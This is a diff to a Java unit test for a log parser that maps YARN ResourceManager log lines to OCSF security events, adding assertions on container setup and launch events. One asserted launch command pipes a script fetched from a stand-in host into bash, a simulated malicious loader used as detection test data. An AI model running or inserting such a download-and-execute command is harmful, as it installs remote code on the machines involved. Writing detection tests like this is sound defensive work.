@@ -66,7 +66,7 @@ class YarnFormatTest {
     @Test
     void resourceManagerLogGolden() {
         List<Event> events = GoldenFiles.check("yarn/resourcemanager.log");
-        assertThat(events).hasSize(26);
+        assertThat(events).hasSize(27);
 
         Event startup = events.get(0);
         assertThat(startup.ocsfClass()).isEqualTo(OcsfClass.BASE_EVENT);
@@ -86,8 +86,18 @@ class YarnFormatTest {
                 .isEqualTo("org.apache.hadoop.yarn.server.resourcemanager.RMAuditLogger");
         assertThat(audit.operation().name()).isEqualTo("Submit Application Request");
 
+        Event setup = find(events, "Setting up container");
+        assertThat(setup.dst().host()).isEqualTo("ip-10-0-2-41.ec2.internal");
+        assertThat(setup.raw().tree().get("application_id").asText()).isEqualTo("application_1773650401234_0001");
+
+        // the launch line does not name the node: it is the one its container was set up on
         Event launch = find(events, "Command to launch container");
         assertThat(launch.raw().tree().get("message").asText()).contains("curl -fsSL http://203.0.113.50/ldr.sh | bash");
+        assertThat(launch.raw().tree().get("command").asText()).startsWith("curl -fsSL http://203.0.113.50/ldr.sh | bash");
+        assertThat(launch.raw().tree().get("container_id").asText()).isEqualTo("container_1773650401234_0001_01_000001");
+        assertThat(launch.dst().host()).isEqualTo("ip-10-0-2-41.ec2.internal");
+        assertThat(launch.resources()).extracting(r -> r.type() + ":" + r.id())
+                .contains("YARN::Application:application_1773650401234_0001");
 
         Event failedAudit = find(events, "RESULT=FAILURE");
         assertThat(failedAudit.raw().tree().get("level").asText()).isEqualTo("WARN");
